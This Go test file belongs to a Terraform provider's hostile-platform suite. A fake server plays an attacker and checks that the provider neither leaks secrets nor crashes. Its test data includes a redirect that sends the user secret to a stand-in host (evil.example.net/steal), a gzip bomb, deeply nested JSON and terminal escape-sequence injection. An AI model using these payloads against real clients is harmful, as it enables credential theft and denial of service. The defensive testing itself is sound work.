package provider

import (
	"bytes"
	"cmp"
	"compress/gzip"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync/atomic"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/hashicorp/terraform-plugin-go/tfprotov6"
	"github.com/hashicorp/terraform-plugin-testing/helper/resource"

	"github.com/cloudelements/terraform-provider-cloudelements/internal/cloudelements"
)

// The hostile-platform suite (issue 15): a platform double that answers as
// an attacker controlling base_url would, run through the real Terraform CLI
// with TRACE logging. Every case scans what Terraform shows (the provider's
// diagnostics) and the TRACE log for every secret in every form.

const hostileAddr = "cloudelements_freshdesk_instance.h"

// hPass is a password written into a malformed base_url.
const hPass = "FAKEpw-Url9Q7"

func init() { hostileSecrets = append(hostileSecrets, hPass) }

// hostileProvider is the provider block. The secrets come from the
// environment (hostileSecretsEnv): the test harness logs the configuration
// it writes, which would otherwise put them in the scanned log itself.
func hostileProvider(baseURL string) string {
	attr := fmt.Sprintf("base_url    = %q", baseURL)
	if baseURL == "" { // from CLOUDELEMENTS_BASE_URL
		attr = "# base_url from the environment"
	}
	return fmt.Sprintf(`provider "cloudelements" {
  %s
  max_retries = 0
}

variable "h_api_key" {
  type      = string
  sensitive = true
}

variable "h_signature_key" {
  type      = string
  sensitive = true
}
`, attr)
}

func hostileSecretsEnv(t *testing.T) {
	t.Setenv(envUserSecret, hUser)
	t.Setenv(envOrganizationSecret, hOrg)
	t.Setenv("TF_VAR_h_api_key", hKey)
	t.Setenv("TF_VAR_h_signature_key", hSig)
}

func hostileResource(extra string) string {
	return `resource "cloudelements_freshdesk_instance" "h" {
  name      = "hostile"
  subdomain = "acme"
  api_key   = var.h_api_key
  timeouts  = { create = "20s", read = "3s", update = "20s", delete = "20s" }
` + extra + "}\n"
}

const hostileList = `data "cloudelements_instances" "all" {}` + "\n"

// once wraps a hook so that it answers the first matching request only.
func once(match func(r *http.Request) bool, answer func(w http.ResponseWriter, r *http.Request, body []byte)) func(http.ResponseWriter, *http.Request, []byte) bool {
	var done atomic.Bool
	return func(w http.ResponseWriter, r *http.Request, body []byte) bool {
		if !match(r) || !done.CompareAndSwap(false, true) {
			return false
		}
		answer(w, r, body)
		return true
	}
}

func isGet(path string) func(*http.Request) bool {
	return func(r *http.Request) bool {
		return r.Method == http.MethodGet && strings.HasSuffix(r.URL.Path, path)
	}
}

// always answers every request matching match.
func always(match func(*http.Request) bool, answer func(w http.ResponseWriter, r *http.Request, body []byte)) func(http.ResponseWriter, *http.Request, []byte) bool {
	return func(w http.ResponseWriter, r *http.Request, body []byte) bool {
		if !match(r) {
			return false
		}
		answer(w, r, body)
		return true
	}
}

func anyRequest(*http.Request) bool { return true }

// hostileCase is one finding or one defence that already holds.
type hostileCase struct {
	name string
	tls  bool
	// steps builds the test steps; provider is the provider block.
	steps func(s *hostileServer, provider string) []resource.TestStep
	// baseURL replaces the server's URL in the provider block.
	baseURL string
	// idsTrusted reports whether the provider acted on an answer about
	// another instance (checked after the test).
	idsTrusted func(s *hostileServer) bool
	// clean checks the terminal text further.
	clean func(terminal string) error
	// handler serves the case instead of a hostileServer (the emulator
	// under a profile, say); s is then unused by the steps.
	handler func(t *testing.T) http.Handler
	// env is set after the suite's secrets (a longer API key, say).
	env map[string]string
	// secrets are scanned for besides hostileSecrets.
	secrets []string
	// query marks a case that runs terraform query (Terraform 1.14+).
	query bool
	// bound is the time the case may take (default hostileBound); a case
	// over it counts as a stall.
	bound time.Duration
}

// hostileBound is a case's default time bound.
const hostileBound = 90 * time.Second

// oneStep is a single step expecting an error.
func oneStep(config, expect string) func(*hostileServer, string) []resource.TestStep {
	return func(_ *hostileServer, p string) []resource.TestStep {
		return []resource.TestStep{{Config: p + config, ExpectError: regexp.MustCompile(expect)}}
	}
}

// hookThen installs hook on the server, then runs one step expecting an error.
func hookThen(config, expect string, hook func(http.ResponseWriter, *http.Request, []byte) bool) func(*hostileServer, string) []resource.TestStep {
	return func(s *hostileServer, p string) []resource.TestStep {
		s.setHook(hook)
		return []resource.TestStep{{Config: p + config, ExpectError: regexp.MustCompile(expect)}}
	}
}

// swapAfterCreate creates the instance, then answers one GET of it with
// body (about another instance), then checks state still holds id 1017.
func swapAfterCreate(expect, body string) func(*hostileServer, string) []resource.TestStep {
	return func(s *hostileServer, p string) []resource.TestStep {
		return []resource.TestStep{
			{Config: p + hostileResource("")},
			{
				PreConfig: func() {
					s.setHook(once(isGet(fmt.Sprintf("/instances/%d", hostID)), func(w http.ResponseWriter, _ *http.Request, _ []byte) {
						rawJSON(w, 200, body)
					}))
				},
				Config: p + hostileResource(""), ExpectError: regexp.MustCompile(expect),
			},
			{Config: p + hostileResource(""), Check: resource.TestCheckResourceAttr(hostileAddr, "id", fmt.Sprint(hostID))},
		}
	}
}

// deletedOther reports whether destroy went to another instance than 1017.
func deletedOther(s *hostileServer) bool {
	ok := false
	for _, r := range s.requests() {
		if strings.HasPrefix(r, "DELETE /instances/") && !strings.HasSuffix(r, "/enabled") {
			if r != fmt.Sprintf("DELETE /instances/%d", hostID) {
				return true
			}
			ok = true
		}
	}
	return !ok
}

var otherInstance = `{"id":1001,"name":"someone else's","token":"` + hTok2 + `","element":{"id":491,"key":"freshdeskv2"},"configuration":{"subdomain":"other"}}`

var gzipBomb = func() []byte {
	var b bytes.Buffer
	zw, _ := gzip.NewWriterLevel(&b, gzip.BestCompression)
	chunk := bytes.Repeat([]byte(" "), 1<<20)
	for range 64 { // 64 MiB of spaces in about 64 KiB
		_, _ = zw.Write(chunk)
	}
	_ = zw.Close()
	return b.Bytes()
}

// floodBody is one page of n tiny instances: [{"id":1},{"id":2},...], the
// ids cycling through 1-9 so that 930,000 fit under the 8 MiB answer cap.
func floodBody(n int) []byte {
	var b bytes.Buffer
	b.WriteByte('[')
	for i := range n {
		if i > 0 {
			b.WriteByte(',')
		}
		fmt.Fprintf(&b, `{"id":%d}`, i%9+1)
	}
	b.WriteByte(']')
	return b.Bytes()
}

// floodItems makes a page just under the 8 MiB answer cap.
const floodItems = 930000

// cutEcho puts s so that it straddles byte 2000, where messages are cut.
func cutEcho(s string) string { return strings.Repeat("x", 1995) + s + " after the cut" }

// halfEscaped writes every other character of s as \u00XX, escaped once more
// for a JSON string so that the decoded message carries the escapes.
func halfEscaped(s string) string {
	var b strings.Builder
	for i, r := range s {
		if i%2 == 0 && r < 0x80 {
			fmt.Fprintf(&b, `\\u%04x`, r)
			continue
		}
		j, _ := json.Marshal(string(r))
		b.Write(j[1 : len(j)-1])
	}
	return b.String()
}

func hostileCases() []hostileCase {
	eventsBlock := "  events = {\n    callback_url  = \"https://hooks.example.com/fd\"\n    signature_key = var.h_signature_key\n  }\n"
	cases := []hostileCase{
		{name: "redirect to another origin", steps: hookThen(hostileList, `HTTP 302`,
			always(anyRequest, func(w http.ResponseWriter, _ *http.Request, _ []byte) {
				w.Header().Set("Location", "https://evil.example.net/steal?u="+strings.ReplaceAll(hUser, "&", "%26"))
				w.WriteHeader(http.StatusFound)
			}))},
		{name: "oversized body", steps: hookThen(hostileList, `exceeds 8 MiB`,
			always(anyRequest, func(w http.ResponseWriter, _ *http.Request, _ []byte) {
				rawJSON(w, 200, "["+strings.Repeat(`{"id":1},`, 1<<20)+`{"id":1}]`)
			}))},
		{name: "deeply nested body", steps: hookThen(hostileList, `unexpected answer`,
			always(anyRequest, func(w http.ResponseWriter, _ *http.Request, _ []byte) {
				rawJSON(w, 200, strings.Repeat("[", 200000)+strings.Repeat("]", 200000))
			}))},
		{name: "gzip bomb", steps: hookThen(hostileList, `exceeds 8 MiB`,
			always(anyRequest, func(w http.ResponseWriter, _ *http.Request, _ []byte) {
				w.Header().Set("Content-Encoding", "gzip")
				w.Header().Set("Content-Type", "application/json")
				_, _ = w.Write(gzipBomb())
			}))},
		{name: "slow body", steps: func(s *hostileServer, p string) []resource.TestStep {
			return []resource.TestStep{
				{Config: p + hostileResource("")},
				{
					PreConfig: func() {
						s.setHook(once(isGet(fmt.Sprintf("/instances/%d", hostID)), func(w http.ResponseWriter, r *http.Request, _ []byte) {
							w.Header().Set("Content-Type", "application/json")
							w.WriteHeader(200)
							_, _ = w.Write([]byte(`{"id":`))
							if f, ok := w.(http.Flusher); ok {
								f.Flush()
							}
							select { // a byte now and then, never the end
							case <-r.Context().Done():
							case <-time.After(30 * time.Second):
							}
						}))
					},
					Config: p + hostileResource(""), ExpectError: regexp.MustCompile(`(?i)deadline|timeout|abandoned`),
				},
			}
		}},
		{name: "invalid UTF-8", steps: hookThen(hostileList, `HTTP 400`,
			always(anyRequest, func(w http.ResponseWriter, _ *http.Request, _ []byte) {
				rawJSON(w, 400, "{\"message\":\"bad \xff\xfe name \xc3\"}")
			})),
			clean: func(term string) error {
				if !utf8.ValidString(term) {
					return errors.New("invalid UTF-8 reached the terminal")
				}
				return nil
			}},
		{name: "wrong JSON types", steps: hookThen(hostileList, `unexpected answer`,
			always(anyRequest, func(w http.ResponseWriter, _ *http.Request, _ []byte) {
				rawJSON(w, 200, `[{"id":{"n":1},"name":5,"tags":"x"}]`)
			}))},
		{name: "self-signed TLS", tls: true, steps: oneStep(hostileList, `(?i)TLS|certificate`)},
		{name: "flooded listing", steps: func(s *hostileServer, p string) []resource.TestStep {
			page := floodBody(floodItems)
			s.setHook(always(anyRequest, func(w http.ResponseWriter, _ *http.Request, _ []byte) { rawJSON(w, 200, string(page)) }))
			return []resource.TestStep{{Config: p + hostileList, ExpectError: regexp.MustCompile(`narrow it with tags or a name`)}}
		}},
		{name: "signature_key echoed in a 400", steps: hookThen(hostileResource(eventsBlock), `HTTP 400`,
			always(anyRequest, func(w http.ResponseWriter, _ *http.Request, body []byte) {
				var req any
				_ = json.Unmarshal(body, &req)
				hostileJSON(w, 400, map[string]any{
					"requestId":       "r-sig",
					"message":         "invalid request " + string(body),
					"providerMessage": map[string]any{"request": req, "echo": hSig},
				})
			}))},
		{name: "escaped, cut and object echoes", steps: hookThen(hostileResource(""), `HTTP 400`,
			always(anyRequest, func(w http.ResponseWriter, _ *http.Request, _ []byte) {
				rawJSON(w, 400, `{"message":"`+cutEcho(hKey)+`","providerMessage":{"mixed":"`+halfEscaped(hKey)+
					`","user":"`+halfEscaped(hUser)+`","url":"https://x/?k=`+strings.ReplaceAll(hKey, "&", "%26")+`"}}`)
			}))},
		{name: "secrets in response headers at TRACE", steps: func(s *hostileServer, p string) []resource.TestStep {
			s.setHook(always(anyRequest, func(w http.ResponseWriter, _ *http.Request, _ []byte) {
				w.Header().Set("X-Echo-Auth", "User "+hUser+", Organization "+hOrg)
				w.Header().Set("Location", "https://x.example/?s="+strings.ReplaceAll(strings.ReplaceAll(hOrg, "+", "%2B"), "&", "%26"))
				w.Header().Set("Set-Cookie", "s="+hUser)
				rawJSON(w, 200, `[]`)
			}))
			return []resource.TestStep{{Config: p + hostileList}}
		}},
		{name: "id swap on GET", steps: swapAfterCreate(`asked about instance 1017, the answer is about\s+instance\s+1001`, otherInstance),
			idsTrusted: deletedOther},
		{name: "duplicate id keys", steps: swapAfterCreate(`duplicate key\s+"id"`,
			`{"id":1017,"name":"hostile","token":"`+hTok2+`","element":{"id":491,"key":"freshdeskv2"},"id":1001}`),
			idsTrusted: deletedOther},
		{name: "duplicate id keys, asked id last", steps: swapAfterCreate(`duplicate key\s+"id"`,
			`{"id":1001,"name":"hostile","token":"`+hTok2+`","element":{"id":491,"key":"freshdeskv2"},"id":1017}`),
			idsTrusted: deletedOther},
		{name: "control characters in messages", steps: hookThen(hostileList, `HTTP 400`,
			always(anyRequest, func(w http.ResponseWriter, _ *http.Request, _ []byte) {
				hostileJSON(w, 400, map[string]any{
					"requestId":       "r-\x1b[2J",
					"message":         "\x1b[2J\x1b[H\x1b]0;pwned\x07 fake prompt $ \x1b[31mred\x1b[0m\r\x08\x08 \u009b1m c1 \u202eevil",
					"providerMessage": "line\nbreak\x00nul",
				})
			})),
			clean: func(term string) error {
				for _, r := range term {
					if (r < 0x20 && r != '\n') || (r >= 0x7f && r < 0xa0) || r == 0x202e {
						return fmt.Errorf("control character %U reached the terminal", r)
					}
				}
				return nil
			}},
		{name: "Token key in any case", steps: func(s *hostileServer, p string) []resource.TestStep {
			s.setHook(always(isGet("/instances"), func(w http.ResponseWriter, _ *http.Request, _ []byte) {
				rawJSON(w, 200, `[{"id":1017,"name":"x","Token":"`+hTok2+`","element":{"key":"freshdeskv2"},"configuration":{"TOKEN":"`+hTok+`"}}]`)
			}))
			return []resource.TestStep{{Config: p + hostileList}}
		}},
		{name: "base_url with userinfo", baseURL: "http://admin:" + hPass + "@bad host/elements/api-v2",
			steps: oneStep(hostileList, `(?i)base_url`),
		},
	}
	cases = append(cases, hostileSecretCases()...)
	cases = append(cases, hostileTrustCases()...)
	cases = append(cases, hostileLimitCases()...)
	cases = append(cases, hostileOutputCases()...)
	return cases
}

// hostileTally is the suite's figure.
type hostileTally struct{ cases, leaks, crashes, idsTrusted, stalls, escapes int }

var crashRE = regexp.MustCompile(`(?i)panic:|plugin crashed|plugin did not respond|goroutine \d+ \[`)

func TestHostile(t *testing.T) {
	if os.Getenv(resource.EnvTfAcc) == "" {
		t.Skip("acceptance test: set TF_ACC=1")
	}
	var tally hostileTally
	// First: a child's peak RSS as Linux reports it includes the parent's
	// peak at the fork, and the cases run the provider in this process.
	rss := floodPeaks(t)
	for _, hc := range hostileCases() {
		t.Run(hc.name, func(t *testing.T) {
			tally.cases++
			runHostileCase(t, hc, &tally)
		})
	}
	line := fmt.Sprintf("hostile: cases=%d leaks=%d crashes=%d ids_trusted=%d stalls=%d escapes=%d peak_rss_mib=%d\n",
		tally.cases, tally.leaks, tally.crashes, tally.idsTrusted, tally.stalls, tally.escapes, rss)
	fmt.Print(line)
	// Beside the acceptance figure, for make test to show.
	if report := os.Getenv("ACC_REPORT"); report != "" {
		if err := os.WriteFile(filepath.Join(filepath.Dir(report), "hostile.txt"), []byte(line), 0o600); err != nil {
			t.Error(err)
		}
	}
}

// runHostileCase runs one case through the real CLI and scans what it left:
// the terminal (every diagnostic), the TRACE log, every state and state
// backup, every saved plan (as show -json reads it).
func runHostileCase(t *testing.T, hc hostileCase, tally *hostileTally) {
	s := newHostileServer()
	var h http.Handler = s
	if hc.handler != nil {
		h = hc.handler(t)
	}
	var srv *httptest.Server
	if hc.tls {
		srv = httptest.NewTLSServer(h)
	} else {
		srv = httptest.NewServer(h)
	}
	t.Cleanup(srv.Close)
	baseURL := srv.URL + "/elements/api-v2"
	if hc.baseURL != "" {
		// From the environment: Terraform itself quotes configuration
		// lines in its error snippets, which is not the provider's echo.
		t.Setenv("CLOUDELEMENTS_BASE_URL", hc.baseURL)
		baseURL = ""
	}
	logPath := hostileLog(t)
	hostileSecretsEnv(t)
	for k, v := range hc.env {
		t.Setenv(k, v)
	}
	if p := os.Getenv("HOSTILE_KEEP_LOG"); p != "" {
		t.Cleanup(func() { b, _ := os.ReadFile(logPath); _ = os.WriteFile(p, b, 0o600) })
	}
	workDir := t.TempDir()
	t.Setenv("TF_ACC_PERSIST_WORKING_DIR", "1") // state files and backups stay for the scan
	scan := &hostileScan{}
	steps := hc.steps(s, hostileProvider(baseURL))
	for i := range steps {
		if steps[i].Query {
			continue
		}
		steps[i].ConfigStateChecks = append(steps[i].ConfigStateChecks, stateScan{scan})
		pc := &steps[i].ConfigPlanChecks
		if !steps[i].PlanOnly {
			pc.PreApply = append(pc.PreApply, planScan{scan})
		}
		pc.PostApplyPostRefresh = append(pc.PostApplyPostRefresh, planScan{scan})
	}
	rec := &recordingServer{}
	inner := serverFactory(New("test")())
	start := time.Now()
	resource.Test(t, resource.TestCase{
		ProtoV6ProviderFactories: map[string]func() (tfprotov6.ProviderServer, error){
			"cloudelements": func() (tfprotov6.ProviderServer, error) {
				ps, err := inner()
				rec.ProviderServer = ps
				rec.ListResourceServer, _ = ps.(tfprotov6.ListResourceServer)
				return rec, err
			},
		},
		WorkingDir:             workDir,
		TerraformVersionChecks: versionChecks(hc.query),
		Steps:                  steps,
	})
	if bound := cmp.Or(hc.bound, hostileBound); time.Since(start) > bound {
		tally.stalls++
		t.Errorf("the case took %s, over its bound of %s", time.Since(start).Round(time.Second), bound)
	}
	files := scanStateFiles(workDir, scan)
	t.Logf("scanned: %d state files, %d states and plans (show -json)", files, scan.count())
	term, log := rec.terminal()+s.shownText(), readLog(t, logPath)
	secrets := append(append([]string(nil), hostileSecrets...), hc.secrets...)
	if l := leaksOf(secrets, term, log, scan.text()); len(l) > 0 {
		tally.leaks++
		t.Errorf("secrets leaked: %s", strings.Join(l, ", "))
	}
	if n := escapesIn(term); n > 0 {
		tally.escapes++
		t.Errorf("%d raw control characters or escape sequences reached the terminal: %q", n, term)
	}
	if crashRE.MatchString(term) || crashRE.MatchString(log) {
		tally.crashes++
		t.Errorf("the provider crashed:\n%s", crashRE.FindString(term+log))
	}
	if hc.idsTrusted != nil && hc.idsTrusted(s) {
		tally.idsTrusted++
		t.Errorf("an answer about another instance was trusted: requests %v", s.requests())
	}
	if hc.clean != nil {
		if err := hc.clean(term); err != nil {
			t.Error(err)
		}
	}
	if len(log) < 1000 {
		t.Errorf("the TRACE log holds %d bytes only; nothing was scanned", len(log))
	}
}

const envFloodChild = "HOSTILE_FLOOD_CHILD"

// floodPeaks runs every flood shape in a process of its own (the tiny-items
// page and floodShapes), checks each peak RSS and returns the largest.
func floodPeaks(t *testing.T) int64 {
	// The figure holds without the race detector (make test measures it
	// again without); under it, memory use grows 5-10 times, and the bound
	// still catches a listing that is not capped (that took gigabytes).
	limit := int64(256)
	if raceDetector {
		limit = 8 * 256
	}
	var peak int64
	for _, shape := range append([]string{"tiny items"}, floodShapeNames()...) {
		rss, line, err := floodShapePeakRSS(shape)
		if err != nil {
			t.Errorf("measuring the flood's peak RSS: %v", err)
			continue
		}
		fmt.Printf("hostile flood %q: peak_rss_mib=%d (%s)\n", shape, rss, line)
		if rss >= limit {
			t.Errorf("peak RSS %d MiB while the platform floods a listing with %s; want under %d", rss, shape, limit)
		}
		peak = max(peak, rss)
	}
	return peak
}

// TestHostileFloodChild is one flooding case in a process of its own: the
// shape named by HOSTILE_FLOOD_CHILD ("tiny items": one page of 930,000
// tiny items; else one of floodShapes), listed by the provider's client.
func TestHostileFloodChild(t *testing.T) {
	shape := os.Getenv(envFloodChild)
	if shape == "" {
		t.Skip("run by TestHostile in a process of its own")
	}
	if shape != "tiny items" {
		runFloodShape(t, shape)
		return
	}
	page := floodBody(floodItems)
	if len(page) >= 8<<20 {
		t.Fatalf("flood page of %d bytes passes the 8 MiB answer cap", len(page))
	}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		rawJSON(w, 200, string(page))
	}))
	defer srv.Close()
	c, err := cloudelements.New(cloudelements.Config{BaseURL: srv.URL + "/elements/api-v2", UserSecret: hUser, OrganizationSecret: hOrg})
	if err != nil {
		t.Fatal(err)
	}
	_, err = c.ListInstances(context.Background(), cloudelements.ListOptions{})
	if err == nil || !strings.Contains(err.Error(), "narrow it") {
		t.Fatalf("flood not capped: %v", err)
	}
	fmt.Println("flood child: capped:", err)
}
